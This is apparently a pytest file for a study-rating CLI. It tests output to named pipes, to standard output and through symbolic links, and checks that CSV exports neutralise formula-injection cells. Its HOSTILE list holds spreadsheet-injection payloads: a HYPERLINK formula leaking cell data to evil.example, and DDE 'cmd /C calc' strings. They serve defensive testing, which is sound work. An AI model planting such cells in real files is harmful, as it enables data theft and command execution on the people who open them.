"""Issue 24 (trust, third pass), outputs: `--out` a named pipe, a link to the standard output, a symbolic link;
and CSV cells a spreadsheet would run as formulas. Through the real CLI, on the bundled demo study."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from tests.reliability.test_files import one_sentence
from tests.support import copy_demo, digest, run_cli_process


@pytest.fixture
def study(demo_original, tmp_path) -> Path:
    return copy_demo(demo_original, tmp_path)


def _read_fifo(path: Path, into: list[bytes]) -> None:
    with open(path, "rb") as handle:  # blocks until the writer opens it
        into.append(handle.read())


@pytest.mark.parametrize("words", [["report", "--task", "hanna"], ["export", "--what", "items"]])
def test_a_named_pipe_with_a_reader_gets_the_whole_output(study, tmp_path, words):
    fifo = tmp_path / "out.csv" if words[0] == "export" else tmp_path / "report.txt"
    os.mkfifo(fifo)
    read: list[bytes] = []
    reader = threading.Thread(target=_read_fifo, args=(fifo, read), daemon=True)
    reader.start()
    result = run_cli_process(*words, "--out", fifo, "--db", study, timeout=120)
    reader.join(timeout=30)
    assert result.returncode == 0, result.stderr
    assert fifo.is_fifo()  # written into, not renamed over
    assert read and len(read[0]) > 1000
    if words[0] == "export":
        assert read[0].startswith(b"id,task,system")
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]


def test_a_named_pipe_nobody_reads_is_one_sentence_at_once(study, tmp_path):
    fifo = tmp_path / "nobody.txt"
    os.mkfifo(fifo)
    before = digest(study)
    began = time.monotonic()
    error = one_sentence(run_cli_process("report", "--task", "hanna", "--out", fifo, "--db", study, timeout=60))
    assert "nothing is reading from it" in error
    assert time.monotonic() - began < 30 and fifo.is_fifo() and digest(study) == before


STDOUT = ("--out", "/proc/self/fd/1", "--db")


def test_out_the_standard_output_writes_into_what_it_points_at(study, tmp_path):
    # `report --out /dev/stdout > r.html`: /proc/self/fd/1 is the same link, private to the process
    target = tmp_path / "r.md"
    with open(target, "wb") as stdout:
        result = subprocess.run(
            [
                sys.executable,
                "-m",
                "tui_rater.cli",
                "report",
                "--task",
                "hanna",
                "--format",
                "markdown",
                *STDOUT,
                study,
            ],
            stdout=stdout,
            stderr=subprocess.PIPE,
            text=True,
            timeout=120,
        )
    assert result.returncode == 0, result.stderr
    text = target.read_text(encoding="utf-8")
    assert text.count("\n") > 20 and "hanna" in text  # the whole report, not one line


def test_a_symbolic_link_is_followed_and_stays_a_link(study, tmp_path):
    real = tmp_path / "reports" / "latest.csv"
    real.parent.mkdir()
    real.write_text("old\n")
    link = tmp_path / "report.csv"
    link.symlink_to(real)
    assert run_cli_process("export", "--what", "items", "--out", link, "--db", study).returncode == 0
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert real.read_text().startswith("id,task,system")


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _hostile_study(study: Path, tmp_path: Path) -> Path:
    ratings = tmp_path / "hostile.csv"
    with open(ratings, "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["item", "attribute", "rater", "value"])
        for number, name in enumerate(HOSTILE, 1):
            writer.writerow(["h95", "relevance", name, number])
    assert run_cli_process("import-ratings", ratings, "--db", study).returncode == 0
    return study


def _cells(path: Path) -> set[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return {cell for row in csv.reader(handle) for cell in row}


@pytest.mark.parametrize(
    "words", [["export", "--what", "ratings"], ["export", "--what", "wide"], ["report", "--format", "csv"]]
)
def test_csv_cells_that_start_a_formula_are_neutralised_by_default(study, tmp_path, words):
    _hostile_study(study, tmp_path)
    out = tmp_path / "out.csv"
    result = run_cli_process(*words, "--task", "hanna", "--out", out, "--db", study)
    assert result.returncode == 0, result.stderr
    assert "--raw-csv writes them as they are" in result.stderr
    cells = _cells(out)
    for name in HOSTILE:
        assert not any(cell.startswith(name) for cell in cells), name
        assert any(cell.startswith("'" + name) for cell in cells), name
    assert not any(cell and cell[0] in "=+@" for cell in cells)
    # numbers stay numbers: a negative value or difference is no formula
    if words[0] == "report":
        assert any(cell.startswith("-0.") for cell in cells)
    raw = tmp_path / "raw.csv"
    assert run_cli_process(*words, "--task", "hanna", "--out", raw, "--raw-csv", "--db", study).returncode == 0
    assert all(any(cell.startswith(name) for cell in _cells(raw)) for name in HOSTILE)
